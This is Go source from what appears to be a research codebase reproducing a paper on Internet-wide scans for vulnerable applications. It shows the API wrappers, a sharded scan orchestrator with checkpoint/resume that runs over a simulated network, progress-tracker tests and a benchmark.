	// DefenderStudy is the Section-5 experiment result.
	DefenderStudy = study.DefenderStudy
	// SummaryRow is one row of Table 9.
	SummaryRow = study.SummaryRow
)

// RunScan generates a world and runs the full pipeline on it (Tables 2-4,
// Figure 1). With ScanConfig.Shards > 1 or a Checkpoint store the scan
// runs sharded with resume support and emits the identical report.
func RunScan(ctx context.Context, cfg ScanConfig) (*ScanStudy, error) {
	return study.RunScan(ctx, cfg)
}

// RunLongevityStudy replays the four-week observation of the scan's
// vulnerable hosts (Figure 2).
func RunLongevityStudy(ctx context.Context, cfg LongevityConfig) (*LongevityResult, error) {
	return study.RunLongevity(ctx, cfg)
}

// RunHoneypotStudy deploys the 18 honeypots and replays the attacker
// model (Tables 5-8, Figures 3-4).
func RunHoneypotStudy(ctx context.Context, cfg HoneypotConfig) (*HoneypotStudy, error) {
	return study.RunHoneypots(ctx, cfg)
}

// RunDefenderStudy points the two emulated commercial scanners at a fresh
// honeypot farm (RQ7).
func RunDefenderStudy(ctx context.Context, cfg DefenderConfig) (*DefenderStudy, error) {
	return study.RunDefenders(ctx, cfg)
}

// API stability
//
// New entry points follow the (ctx, cfg) convention: a context first, a
// single config struct second, errors returned rather than panicked. The
// wrappers below predate that convention; they are kept so existing
// callers keep compiling, but each has a (ctx, cfg) replacement above and
// new code should not pick them up.

// RunLongevity replays the four-week observation of the scan's vulnerable
// hosts.
//
// Deprecated: use RunLongevityStudy, which takes a context and reports
// configuration errors instead of panicking on a nil study.
func RunLongevity(s *ScanStudy, cfg LongevityConfig) *LongevityResult {
	cfg.Scan = s
	result, err := study.RunLongevity(context.Background(), cfg)
	if err != nil {
		panic(err)
	}
	return result
}

// RunHoneypots deploys the 18 honeypots and replays the attacker model.
//
// Deprecated: use RunHoneypotStudy, whose HoneypotConfig also carries
// fault-injection, resilience and telemetry settings.
func RunHoneypots(seed int64) (*HoneypotStudy, error) {
	return study.RunHoneypots(context.Background(), HoneypotConfig{Seed: seed})
}

// RunDefenders points the two emulated commercial scanners at a fresh
// honeypot farm.
//
// Deprecated: use RunDefenderStudy, whose DefenderConfig also carries
// fault-injection, resilience and telemetry settings.
func RunDefenders() (*DefenderStudy, error) {
	return study.RunDefenders(context.Background(), DefenderConfig{})
}

// Table9 joins the three studies into the paper's summary table.
func Table9(scan *ScanStudy, pots *HoneypotStudy, def *DefenderStudy) []SummaryRow {
	return study.Table9(scan, pots, def)
}

// Scanner emulations (internal/secscan).
type (
	// CommercialScanner is one emulated industry scanner.
	CommercialScanner = secscan.Scanner
	// ScannerFinding is one of its reports.
	ScannerFinding = secscan.Finding
)

// Responsible disclosure (internal/disclosure) and the CT-log extension
// (internal/ctlog).
type (
	// DisclosureFinding is one vulnerable endpoint to report to its
	// owner or hosting provider.
	DisclosureFinding = disclosure.Finding
	// DisclosurePlan batches notifications per provider and derives
	// direct contacts from TLS certificates.
	DisclosurePlan = disclosure.Plan
	// CTLog is the simulated certificate-transparency log.
	CTLog = ctlog.Log
	// CTExperimentConfig tunes the CT-vs-sweep attacker race.
	CTExperimentConfig = ctlog.ExperimentConfig
)

// NewDisclosureBuilder constructs disclosure plans over a simulated
// network and address plan.
func NewDisclosureBuilder(n *Network, db *GeoDB) *disclosure.Builder {
	return disclosure.New(n, db)
}

// RunCTExperiment runs the Section-6.2 extension: a CT-log-watching
// attacker racing a full-sweep attacker for fresh installations.
func RunCTExperiment(cfg CTExperimentConfig) (ctlog.ExperimentResult, error) {
	return ctlog.RunExperiment(cfg)
}
