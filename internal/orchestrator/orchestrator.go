// Package orchestrator coordinates sharded scan-pipeline runs with
// checkpoint/resume semantics — the operational model real Internet-wide
// scans use (the paper's Stage I spanned ~3.5B addresses on 12 ports,
// sharded across 64 machines and restarted on failure).
//
// The coordinator partitions the precomputed scan space (targets minus
// exclusions, internal/iprange) into K contiguous flat-index shards, and
// each shard into checkpoint segments. One scanner.Pipeline runs per
// shard; a bounded worker pool executes segments with work-stealing, so a
// straggler shard's remaining segments are drained by idle workers.
// Every completed segment is journaled (watermark + partial report) to a
// pluggable append-only Store; a killed run resumes by replaying the
// journal, skipping completed segments and re-running the rest from
// scratch.
//
// Determinism is the load-bearing property: a scan report is additive
// over (address, port) endpoints, each endpoint lives in exactly one
// segment (segments split addresses, never ports, so per-host artifact
// detection stays segment-local), and each endpoint's request sequence —
// and hence its seeded fault draws — is fixed regardless of when its
// segment runs. Merging per-segment reports therefore reproduces the
// monolithic report byte for byte, for any shard count, any scheduling,
// and any interrupt/resume history with the same seed.
package orchestrator

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"hash/fnv"
	"runtime"
	"sort"
	"strconv"
	"sync"
	"time"

	"mavscan/internal/faults"
	"mavscan/internal/iprange"
	"mavscan/internal/mav"
	"mavscan/internal/resilience"
	"mavscan/internal/scanner"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// Checkpoint configures progress journaling.
type Checkpoint struct {
	// Store receives one record per completed segment; nil disables
	// checkpointing (segmentation then defaults to one segment per shard).
	Store Store
	// RunID names the journal stream (default "scan"), so one store can
	// carry several runs.
	RunID string
	// Every is the checkpoint granularity in addresses per segment
	// (default: one segment per shard). Smaller segments lose less work on
	// a kill and steal at a finer grain, at more journal appends.
	Every uint64
	// Resume replays the journal before scanning and skips the segments it
	// records as complete. The journal's plan fingerprint must match the
	// current configuration; resuming a different scan is an error.
	Resume bool
}

// ErrWorkerCrash is the injected shard-worker failure (faults.Config.
// WorkerCrashRate). It surfaces when the crash schedule outlasts the
// retry budget.
var ErrWorkerCrash = errors.New("orchestrator: injected worker crash")

// Config parametrizes an orchestrated scan.
type Config struct {
	// Net is the network the per-shard pipelines probe. Required.
	Net *simnet.Network
	// Scan carries the pipeline options. Targets are required; Space must
	// be unset (the orchestrator owns the space partition).
	Scan scanner.Options
	// Shards is the number of flat-index shards (default 1).
	Shards int
	// Parallelism bounds the concurrent shard workers (default
	// min(Shards, GOMAXPROCS)). Scheduling never affects the report.
	Parallelism int
	// Checkpoint configures journaling and resume.
	Checkpoint Checkpoint
	// Telemetry, when non-nil, instruments the coordinator (per-shard span
	// tree, watermark gauges, steal/resume/crash counters) and every
	// pipeline stage.
	Telemetry *telemetry.Registry
	// Progress, when non-nil, receives live run state (per-shard
	// watermarks, checkpoint lag, worker liveness) for the operations
	// plane's /progress endpoint.
	Progress *ProgressTracker
	// Resilience applies at two levels: per-pipeline HTTP-stage retries
	// (as in the monolithic path) and segment re-runs after injected
	// worker crashes. Context cancellation is never retried.
	Resilience resilience.Policy
	// Faults, when non-nil, supplies the worker-crash schedule
	// (Plan.WorkerCrash). Endpoint-level injection rides the network's
	// installed injector, not this field.
	Faults *faults.Plan
	// Clock provides elapsed-time accounting (default the wall clock).
	Clock simtime.Clock
	// HTTPTimeout overrides the per-request HTTP timeout (and connection
	// wall budget) of every shard pipeline; zero keeps the 10s default.
	// Hostile-seeded scans set it low so tarpits cost milliseconds.
	HTTPTimeout time.Duration
}

// Segment is one atomic unit of scan work: a contiguous flat-index address
// window of one shard, scanned on every port. It is exported because the
// distributed fabric (internal/fabric) leases exactly these units to
// worker processes; the in-process orchestrator and the coordinator both
// derive their plans from PlanSegments, which is what makes their merged
// reports interchangeable.
type Segment struct {
	// Shard is the flat-index shard the segment belongs to.
	Shard int `json:"shard"`
	// Ordinal is the global segment index, shard-major. It identifies the
	// segment in checkpoint records and fabric leases.
	Ordinal int `json:"ordinal"`
	// Lo and Hi bound the segment's flat-index address window
	// [Lo, Hi) within the global scan space.
	Lo uint64 `json:"lo"`
	Hi uint64 `json:"hi"`
	// Seed keys the segment's probe-order permutation.
	Seed uint64 `json:"seed"`
}

// PlanSegments partitions a scan space of n addresses into shards and
// checkpoint segments: shard i covers the flat-index window
// [i*n/shards, (i+1)*n/shards), cut into every-address segments (every=0
// means one segment per shard). Segments contain whole hosts across all
// ports, so artifact-host detection and per-endpoint fault sequences stay
// segment-local. The per-segment seed derivation lives here too: when the
// single segment spans the whole space the base seed is used unchanged,
// so the orchestrated probe order is identical to the monolithic
// pipeline's — not just the merged report.
func PlanSegments(n uint64, seed uint64, shards int, every uint64) []Segment {
	if shards <= 0 {
		shards = 1
	}
	var segs []Segment
	for i := 0; i < shards; i++ {
		lo, hi := uint64(i)*n/uint64(shards), uint64(i+1)*n/uint64(shards)
		step := every
		if step == 0 {
			step = hi - lo
		}
		for s := lo; s < hi; s += step {
			e := s + step
			if e > hi {
				e = hi
			}
			segs = append(segs, Segment{
				Shard: i, Ordinal: len(segs), Lo: s, Hi: e,
				Seed: segmentSeed(seed, len(segs), s, e, n),
			})
		}
	}
	return segs
}

// segmentSeed derives the per-segment shuffle seed (see PlanSegments).
func segmentSeed(base uint64, ordinal int, lo, hi, n uint64) uint64 {
	if lo == 0 && hi == n {
		return base
	}
	x := base ^ (uint64(ordinal)+1)*0x9e3779b97f4a7c15
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
	x = (x ^ (x >> 27)) * 0x94d049bb133111eb
	return x ^ (x >> 31)
}

// orch is the per-run coordinator state.
type orch struct {
	cfg   Config
	clock simtime.Clock
	space *iprange.Set
	opts  scanner.Options
	pipes []*scanner.Pipeline
	retr  *resilience.Retrier
	tel   *orchTelemetry

	mu        sync.Mutex
	queues    [][]Segment // pending, per shard
	remaining []int       // unfinished segments per shard (incl. running)
	parts     map[int]*scanner.Report
	attempts  map[int]int // per-ordinal execution attempts (crash draws)

	shardSpans []*telemetry.Span
}

type orchTelemetry struct {
	segments   *telemetry.Counter
	steals     *telemetry.Counter
	resumes    *telemetry.Counter
	crashes    *telemetry.Counter
	segSeconds *telemetry.Histogram
	watermarks []*telemetry.Gauge
}

// Run executes the orchestrated scan and returns the merged report.
func Run(ctx context.Context, cfg Config) (*scanner.Report, error) {
	clock := cfg.Clock
	if clock == nil {
		clock = simtime.Wall{}
	}
	start := clock.Now()

	opts := cfg.Scan
	if opts.Space != nil {
		return nil, errors.New("orchestrator: Scan.Space is owned by the orchestrator; set Targets/Exclude")
	}
	if len(opts.Targets) == 0 {
		return nil, errors.New("orchestrator: no target prefixes")
	}
	if len(opts.Ports) == 0 {
		opts.Ports = mav.ScanPorts()
	}
	targets, err := iprange.FromPrefixes(opts.Targets)
	if err != nil {
		return nil, fmt.Errorf("orchestrator: targets: %w", err)
	}
	exclude, err := iprange.FromPrefixes(opts.Exclude)
	if err != nil {
		return nil, fmt.Errorf("orchestrator: exclude: %w", err)
	}
	space := targets.Subtract(exclude)
	nports := uint64(len(opts.Ports))
	excludedPairs := (targets.NumAddresses() - space.NumAddresses()) * nports

	shards := cfg.Shards
	if shards <= 0 {
		shards = 1
	}
	o := &orch{
		cfg:       cfg,
		clock:     clock,
		space:     space,
		opts:      opts,
		queues:    make([][]Segment, shards),
		remaining: make([]int, shards),
		parts:     map[int]*scanner.Report{},
		attempts:  map[int]int{},
	}
	segs := o.partition(shards)
	fingerprint := PlanFingerprint(space, opts, shards, cfg.Checkpoint.Every)

	shardTotals := make([]uint64, shards)
	for i := 0; i < shards; i++ {
		lo, hi := uint64(i)*space.NumAddresses()/uint64(shards), uint64(i+1)*space.NumAddresses()/uint64(shards)
		shardTotals[i] = hi - lo
	}
	cfg.Progress.begin(clock, shardTotals, len(segs), cfg.Checkpoint.Store != nil)

	if reg := cfg.Telemetry; reg.Enabled() {
		o.tel = &orchTelemetry{
			segments:   reg.Counter("mavscan_orchestrator_segments_total"),
			steals:     reg.Counter("mavscan_orchestrator_steals_total"),
			resumes:    reg.Counter("mavscan_orchestrator_resumed_segments_total"),
			crashes:    reg.Counter("mavscan_orchestrator_worker_crashes_total"),
			segSeconds: reg.Histogram("mavscan_orchestrator_segment_seconds", nil),
			watermarks: make([]*telemetry.Gauge, shards),
		}
		for i := range o.tel.watermarks {
			o.tel.watermarks[i] = reg.Gauge(telemetry.Labeled(
				"mavscan_orchestrator_shard_watermark", "shard", strconv.Itoa(i)))
		}
	}

	if err := o.resume(fingerprint, segs); err != nil {
		return nil, err
	}

	if cfg.Resilience.Enabled() {
		o.retr = resilience.New(cfg.Resilience, nil)
		o.retr.Instrument(cfg.Telemetry, "orchestrator")
	}
	o.pipes = make([]*scanner.Pipeline, shards)
	for i := range o.pipes {
		o.pipes[i] = scanner.New(cfg.Net,
			scanner.WithResilience(cfg.Resilience),
			scanner.WithTelemetry(cfg.Telemetry),
			scanner.WithShardPlan(scanner.ShardPlan{Shard: i, Shards: shards}),
			scanner.WithHTTPTimeout(cfg.HTTPTimeout))
	}

	rootSpan := cfg.Telemetry.StartSpan("orchestrator.run")
	o.shardSpans = make([]*telemetry.Span, shards)
	for i := range o.shardSpans {
		if o.remaining[i] > 0 {
			o.shardSpans[i] = rootSpan.Child(fmt.Sprintf("shard.%02d", i))
		}
	}

	workers := cfg.Parallelism
	if workers <= 0 {
		workers = shards
		if p := runtime.GOMAXPROCS(0); p < workers {
			workers = p
		}
	}

	runCtx, cancel := context.WithCancel(ctx)
	defer cancel()
	var errOnce sync.Once
	var firstErr error
	fail := func(err error) {
		errOnce.Do(func() { firstErr = err })
		cancel()
	}

	cfg.Telemetry.Event("orchestrator.start",
		"shards", strconv.Itoa(shards),
		"segments", strconv.Itoa(len(segs)),
		"workers", strconv.Itoa(workers))

	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		cfg.Progress.workerStart()
		go func(w int) {
			defer wg.Done()
			defer cfg.Progress.workerStop()
			for {
				if runCtx.Err() != nil {
					fail(runCtx.Err())
					return
				}
				seg, ok, stolen := o.next(w, workers)
				if !ok {
					return
				}
				if stolen {
					cfg.Progress.steal()
					if o.tel != nil {
						o.tel.steals.Inc()
					}
				}
				if err := o.runSegment(runCtx, seg); err != nil {
					fail(err)
					return
				}
			}
		}(w)
	}
	wg.Wait()
	rootSpan.End()
	cfg.Progress.finish()
	if firstErr != nil {
		return nil, firstErr
	}
	cfg.Telemetry.Event("orchestrator.done", "segments", strconv.Itoa(len(segs)))

	report := o.merge(len(segs))
	report.Stats.Excluded = excludedPairs
	report.Stats.Elapsed = clock.Now().Sub(start)
	return report, nil
}

// partition splits the scan space into shards and checkpoint segments via
// PlanSegments and seeds the per-shard work queues.
func (o *orch) partition(shards int) []Segment {
	segs := PlanSegments(o.space.NumAddresses(), o.opts.Seed, shards, o.cfg.Checkpoint.Every)
	for _, seg := range segs {
		o.queues[seg.Shard] = append(o.queues[seg.Shard], seg)
		o.remaining[seg.Shard]++
	}
	return segs
}

// resume replays the checkpoint journal (if resuming), removes completed
// segments from the queues, and ensures the stream opens with a plan
// record carrying the configuration fingerprint.
func (o *orch) resume(fingerprint []byte, segs []Segment) error {
	ck := o.cfg.Checkpoint
	if ck.Store == nil {
		if ck.Resume {
			return errors.New("orchestrator: Resume requires a checkpoint store")
		}
		return nil
	}
	runID := ck.RunID
	if runID == "" {
		runID = "scan"
	}
	havePlan := false
	if ck.Resume {
		err := ck.Store.Replay(runID, func(rec Record) error {
			switch rec.Kind {
			case recordPlan:
				if !bytes.Equal(rec.Payload, fingerprint) {
					return fmt.Errorf("orchestrator: journal %q belongs to a different scan configuration", runID)
				}
				havePlan = true
			case recordSegment:
				if rec.Segment < 0 || rec.Segment >= len(segs) {
					return fmt.Errorf("orchestrator: journal %q references unknown segment %d", runID, rec.Segment)
				}
				if _, dup := o.parts[rec.Segment]; dup {
					return nil // idempotent re-append, keep first
				}
				part := &scanner.Report{}
				if err := decodeDelta(rec.Payload, part); err != nil {
					return fmt.Errorf("orchestrator: journal %q segment %d: %w", runID, rec.Segment, err)
				}
				o.parts[rec.Segment] = part
			}
			return nil
		})
		if err != nil {
			return err
		}
	}
	if !havePlan {
		if err := ck.Store.Append(Record{RunID: runID, Kind: recordPlan, Payload: fingerprint}); err != nil {
			return err
		}
	}
	if len(o.parts) == 0 {
		return nil
	}
	// Drop the journaled segments from the work queues.
	for i := range o.queues {
		q := o.queues[i][:0]
		for _, seg := range o.queues[i] {
			if _, done := o.parts[seg.Ordinal]; done {
				o.remaining[i]--
				o.cfg.Progress.resumedSegment(i, seg.Hi-seg.Lo)
				if o.tel != nil {
					o.tel.resumes.Inc()
					o.tel.watermarks[i].Add(int64(seg.Hi - seg.Lo))
				}
				continue
			}
			q = append(q, seg)
		}
		o.queues[i] = q
	}
	return nil
}

// next hands worker w its next segment. Workers own the shards congruent
// to their index; an idle worker steals from the back of the richest
// foreign queue, so stragglers shed their tail segments first.
func (o *orch) next(w, workers int) (Segment, bool, bool) {
	o.mu.Lock()
	defer o.mu.Unlock()
	for i := w; i < len(o.queues); i += workers {
		if len(o.queues[i]) > 0 {
			seg := o.queues[i][0]
			o.queues[i] = o.queues[i][1:]
			return seg, true, false
		}
	}
	best, bestLen := -1, 0
	for i, q := range o.queues {
		if len(q) > bestLen {
			best, bestLen = i, len(q)
		}
	}
	if best < 0 {
		return Segment{}, false, false
	}
	q := o.queues[best]
	seg := q[len(q)-1]
	o.queues[best] = q[:len(q)-1]
	return seg, true, true
}

// runSegment executes one segment through its shard's pipeline — retrying
// under the resilience policy when the fault plan crashes the worker —
// journals the completed delta, and accounts progress.
func (o *orch) runSegment(ctx context.Context, seg Segment) error {
	span := o.shardSpans[seg.Shard].Child(fmt.Sprintf("segment.%03d", seg.Ordinal))
	defer span.End()
	segStart := o.clock.Now()

	opts := o.opts
	opts.Space = o.space.Slice(seg.Lo, seg.Hi)
	opts.Targets, opts.Exclude = nil, nil
	opts.Seed = seg.Seed

	var part *scanner.Report
	err := o.retr.Do(ctx, func(ctx context.Context) error {
		// The crash is drawn before the pipeline starts: it models a worker
		// lost before its segment journals. Drawing pre-run keeps the
		// network's per-endpoint fault counters untouched by crashed
		// attempts, preserving byte-identity across retries and resumes.
		o.mu.Lock()
		o.attempts[seg.Ordinal]++
		attempt := o.attempts[seg.Ordinal]
		o.mu.Unlock()
		if o.cfg.Faults != nil && o.cfg.Faults.WorkerCrash(seg.Shard, seg.Ordinal, attempt) {
			o.cfg.Progress.crash()
			if o.tel != nil {
				o.tel.crashes.Inc()
			}
			return fmt.Errorf("%w (shard %d segment %d attempt %d)",
				ErrWorkerCrash, seg.Shard, seg.Ordinal, attempt)
		}
		rep, err := o.pipes[seg.Shard].Run(ctx, opts)
		if err != nil {
			return err
		}
		// A cancellation that lands mid-segment doesn't abort the pipeline
		// with an error — HTTP-stage probes just start failing, which would
		// silently misclassify the remaining endpoints. A segment is only
		// complete if the context was still live when its run finished.
		if err := ctx.Err(); err != nil {
			return err
		}
		part = rep
		return nil
	})
	if err != nil {
		return err
	}

	if store := o.cfg.Checkpoint.Store; store != nil {
		runID := o.cfg.Checkpoint.RunID
		if runID == "" {
			runID = "scan"
		}
		payload, err := encodeDelta(part)
		if err != nil {
			return err
		}
		if err := store.Append(Record{
			RunID: runID, Kind: recordSegment,
			Shard: seg.Shard, Segment: seg.Ordinal,
			Watermark: seg.Hi, Payload: payload,
		}); err != nil {
			return fmt.Errorf("orchestrator: journaling segment %d: %w", seg.Ordinal, err)
		}
	}

	o.mu.Lock()
	o.parts[seg.Ordinal] = part
	o.remaining[seg.Shard]--
	done := o.remaining[seg.Shard] == 0
	o.mu.Unlock()
	segDur := o.clock.Now().Sub(segStart)
	o.cfg.Progress.segmentDone(seg.Shard, seg.Hi-seg.Lo, segDur, o.cfg.Checkpoint.Store != nil)
	if o.tel != nil {
		o.tel.segments.Inc()
		o.tel.segSeconds.ObserveDuration(segDur)
		o.tel.watermarks[seg.Shard].Add(int64(seg.Hi - seg.Lo))
	}
	o.cfg.Telemetry.Event("orchestrator.segment.done",
		"shard", strconv.Itoa(seg.Shard),
		"ordinal", strconv.Itoa(seg.Ordinal))
	if done {
		o.shardSpans[seg.Shard].End()
		o.cfg.Telemetry.Event("orchestrator.shard.done", "shard", strconv.Itoa(seg.Shard))
	}
	return nil
}

// merge folds the per-segment reports into one via MergeParts.
func (o *orch) merge(nSegs int) *scanner.Report {
	return MergeParts(o.parts, nSegs)
}

// MergeParts folds per-segment report deltas (keyed by segment ordinal)
// into one report, reproducing exactly what the monolithic pipeline would
// have emitted: counters are additive over endpoints, (host, app)
// observations are disjoint across segments, and the final Apps ordering
// matches the aggregator's fold (App, then IP). The fold visits segments
// in ordinal order, so the result is independent of completion order —
// the property both the in-process orchestrator and the distributed
// fabric's coordinator rely on for byte-identical merged reports.
func MergeParts(parts map[int]*scanner.Report, nSegs int) *scanner.Report {
	out := &scanner.Report{
		OpenPorts:      map[int]int{},
		HTTPResponses:  map[int]int{},
		HTTPSResponses: map[int]int{},
	}
	for ordinal := 0; ordinal < nSegs; ordinal++ {
		part := parts[ordinal]
		for port, c := range part.OpenPorts {
			out.OpenPorts[port] += c
		}
		for port, c := range part.HTTPResponses {
			out.HTTPResponses[port] += c
		}
		for port, c := range part.HTTPSResponses {
			out.HTTPSResponses[port] += c
		}
		out.ArtifactHosts += part.ArtifactHosts
		out.Apps = append(out.Apps, part.Apps...)
		out.Stats.Probed += part.Stats.Probed
		out.Stats.Open += part.Stats.Open
	}
	sort.Slice(out.Apps, func(i, j int) bool {
		if out.Apps[i].App != out.Apps[j].App {
			return out.Apps[i].App < out.Apps[j].App
		}
		return out.Apps[i].IP.Less(out.Apps[j].IP)
	})
	return out
}

// PlanFingerprint hashes everything that determines the partition and the
// per-segment results, so a journal can refuse to resume — and a fabric
// worker can refuse to join — under a changed configuration.
func PlanFingerprint(space *iprange.Set, opts scanner.Options, shards int, every uint64) []byte {
	h := fnv.New64a()
	fmt.Fprintf(h, "v1 seed=%d shards=%d every=%d skipfp=%v n=%d ports=%v",
		opts.Seed, shards, every, opts.SkipFingerprint, space.NumAddresses(), opts.Ports)
	for _, r := range space.Ranges() {
		fmt.Fprintf(h, " %d-%d", r.Start, r.Last)
	}
	return []byte(fmt.Sprintf("%016x", h.Sum64()))
}

// encodeDelta serializes a segment's partial report for the journal.
func encodeDelta(part *scanner.Report) ([]byte, error) {
	return json.Marshal(part)
}

// decodeDelta is the inverse of encodeDelta. JSON round-trips every field
// the merge reads (counter maps, observation slice, stats) canonically —
// time.Time marshals to RFC 3339 with nanoseconds — so a resumed merge is
// byte-identical to an uninterrupted one.
func decodeDelta(payload []byte, part *scanner.Report) error {
	return json.Unmarshal(payload, part)
}
