package orchestrator

import (
	"encoding/json"
	"testing"
	"time"

	"mavscan/internal/simtime"
)

var progT0 = time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)

func TestProgressTrackerNilSafe(t *testing.T) {
	var tr *ProgressTracker
	tr.begin(simtime.NewSim(progT0), []uint64{10}, 2, false)
	tr.resumedSegment(0, 5)
	tr.segmentDone(0, 5, time.Second, false)
	tr.steal()
	tr.crash()
	tr.workerStart()
	tr.workerStop()
	tr.finish()
	tr.SetResident(func() int { return 1 })
	if p := tr.Snapshot(); p.Started {
		t.Fatalf("nil tracker snapshot = %+v, want zero", p)
	}
	if err := tr.Ping(); err != nil {
		t.Fatalf("nil tracker Ping = %v", err)
	}
}

func TestProgressTrackerZeroBeforeBegin(t *testing.T) {
	tr := NewProgressTracker()
	p := tr.Snapshot()
	if p.Started || p.Done || p.Watermark != 0 || p.Shards != nil {
		t.Fatalf("pre-begin snapshot = %+v, want zero", p)
	}
}

func TestProgressTrackerWatermarkAndLag(t *testing.T) {
	sim := simtime.NewSim(progT0)
	tr := NewProgressTracker()
	tr.begin(sim, []uint64{100, 300}, 8, true)

	tr.segmentDone(0, 50, time.Second, true)  // journaled
	tr.segmentDone(1, 75, time.Second, false) // lost race with shutdown
	sim.Advance(10 * time.Second)

	p := tr.Snapshot()
	if !p.Started || p.Done {
		t.Fatalf("flags = %+v", p)
	}
	if p.TotalAddrs != 400 || p.DoneAddrs != 125 {
		t.Fatalf("addrs = %d/%d, want 125/400", p.DoneAddrs, p.TotalAddrs)
	}
	if p.Watermark != 125.0/400 {
		t.Fatalf("watermark = %v, want %v", p.Watermark, 125.0/400)
	}
	if p.ElapsedSeconds != 10 {
		t.Fatalf("elapsed = %v, want 10", p.ElapsedSeconds)
	}
	if len(p.Shards) != 2 {
		t.Fatalf("shards = %+v", p.Shards)
	}
	s0, s1 := p.Shards[0], p.Shards[1]
	if s0.Done != 50 || s0.Journaled != 50 || s0.Lag != 0 || s0.Watermark != 0.5 {
		t.Fatalf("shard 0 = %+v", s0)
	}
	if s1.Done != 75 || s1.Journaled != 0 || s1.Lag != 75 || s1.Watermark != 0.25 {
		t.Fatalf("shard 1 = %+v", s1)
	}
}

func TestProgressTrackerNoStoreReadsZeroLag(t *testing.T) {
	tr := NewProgressTracker()
	tr.begin(simtime.NewSim(progT0), []uint64{100}, 2, false)
	tr.segmentDone(0, 50, time.Second, false)
	p := tr.Snapshot()
	if p.Shards[0].Journaled != 50 || p.Shards[0].Lag != 0 {
		t.Fatalf("storeless shard = %+v, want journaled mirrored and lag 0", p.Shards[0])
	}
}

func TestProgressTrackerETA(t *testing.T) {
	tr := NewProgressTracker()
	tr.begin(simtime.NewSim(progT0), []uint64{100}, 10, false)
	tr.workerStart()
	tr.workerStart()
	// Two resumed segments must not drag the mean toward zero.
	tr.resumedSegment(0, 10)
	tr.resumedSegment(0, 10)
	tr.segmentDone(0, 10, 4*time.Second, false)
	tr.segmentDone(0, 10, 6*time.Second, false)

	p := tr.Snapshot()
	// mean = (4+6)/2 = 5s; remaining = 10-4 = 6 segments; 2 workers → 15s.
	if p.ETASeconds != 15 {
		t.Fatalf("eta = %v, want 15", p.ETASeconds)
	}
	if p.Resumed != 2 || p.SegmentsDone != 4 {
		t.Fatalf("segments = %+v", p)
	}

	tr.finish()
	if p := tr.Snapshot(); p.ETASeconds != 0 || !p.Done {
		t.Fatalf("finished snapshot = %+v, want eta 0 and done", p)
	}
}

func TestProgressTrackerCounters(t *testing.T) {
	tr := NewProgressTracker()
	tr.begin(simtime.NewSim(progT0), []uint64{10}, 1, false)
	tr.steal()
	tr.steal()
	tr.crash()
	tr.SetResident(func() int { return 42 })
	p := tr.Snapshot()
	if p.Steals != 2 || p.Crashes != 1 || p.ResidentHosts != 42 {
		t.Fatalf("counters = %+v", p)
	}
}

func TestProgressTrackerPing(t *testing.T) {
	tr := NewProgressTracker()
	if err := tr.Ping(); err != nil {
		t.Fatalf("pre-begin Ping = %v, want nil", err)
	}
	tr.begin(simtime.NewSim(progT0), []uint64{10}, 1, false)
	if err := tr.Ping(); err == nil {
		t.Fatal("started run with zero workers must fail Ping")
	}
	tr.workerStart()
	if err := tr.Ping(); err != nil {
		t.Fatalf("live pool Ping = %v, want nil", err)
	}
	tr.workerStop()
	tr.finish()
	if err := tr.Ping(); err != nil {
		t.Fatalf("finished Ping = %v, want nil", err)
	}
}

func TestProgressSnapshotJSONShape(t *testing.T) {
	tr := NewProgressTracker()
	tr.begin(simtime.NewSim(progT0), []uint64{4}, 1, false)
	tr.segmentDone(0, 4, time.Second, false)
	tr.finish()
	raw, err := json.Marshal(tr.Snapshot())
	if err != nil {
		t.Fatal(err)
	}
	var decoded map[string]any
	if err := json.Unmarshal(raw, &decoded); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{
		"started", "done", "elapsed_seconds", "watermark", "total_addrs",
		"done_addrs", "segments_total", "segments_done", "active_workers",
		"steals", "crashes", "resumed_segments", "resident_hosts",
		"eta_seconds", "shards",
	} {
		if _, ok := decoded[key]; !ok {
			t.Errorf("snapshot JSON missing key %q", key)
		}
	}
	shard := decoded["shards"].([]any)[0].(map[string]any)
	for _, key := range []string{"shard", "total_addrs", "done_addrs", "journaled_addrs", "checkpoint_lag_addrs", "watermark"} {
		if _, ok := shard[key]; !ok {
			t.Errorf("shard JSON missing key %q", key)
		}
	}
	if decoded["watermark"].(float64) != 1 {
		t.Fatalf("final watermark = %v, want 1", decoded["watermark"])
	}
}
