package orchestrator

import (
	"context"
	"fmt"
	"testing"

	"mavscan/internal/scanner"
)

// benchRun executes one orchestrated scan of the standard bench world.
// The world is regenerated per iteration outside the timer, so iterations
// measure the scan, not the generator.
func benchRun(b *testing.B, shards int) {
	b.Helper()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		world := testWorld(b)
		opts := testOptions(world)
		opts.SkipFingerprint = true
		b.StartTimer()
		rep, err := Run(context.Background(), Config{
			Net:    world.Net,
			Scan:   opts,
			Shards: shards,
		})
		if err != nil {
			b.Fatal(err)
		}
		if i == 0 {
			b.Logf("shards=%d probed=%d open=%d apps=%d", shards, rep.Stats.Probed, rep.Stats.Open, len(rep.Apps))
		}
	}
}

// BenchmarkScanThroughput compares the monolithic pipeline against the
// sharded orchestrator at 1, 4 and 16 shards over the same world and
// seed — the PR's performance acceptance (sharded >= monolithic).
func BenchmarkScanThroughput(b *testing.B) {
	b.Run("monolithic", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			b.StopTimer()
			world := testWorld(b)
			opts := testOptions(world)
			opts.SkipFingerprint = true
			pipe := scanner.New(world.Net)
			b.StartTimer()
			if _, err := pipe.Run(context.Background(), opts); err != nil {
				b.Fatal(err)
			}
		}
	})
	for _, shards := range []int{1, 4, 16} {
		b.Run(fmt.Sprintf("shards=%d", shards), func(b *testing.B) { benchRun(b, shards) })
	}
}
