package orchestrator

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"strconv"
	"sync"

	"mavscan/internal/eslite"
	"mavscan/internal/simtime"
)

// Record kinds. A journal stream holds one plan record (the configuration
// fingerprint, appended before the first segment) followed by one segment
// record per completed segment.
const (
	recordPlan    = "plan"
	recordSegment = "segment"
)

// Exported record kinds, for external journal writers that share the
// checkpoint stream format (the fabric coordinator journals worker
// completions with these).
const (
	KindPlan    = recordPlan
	KindSegment = recordSegment
)

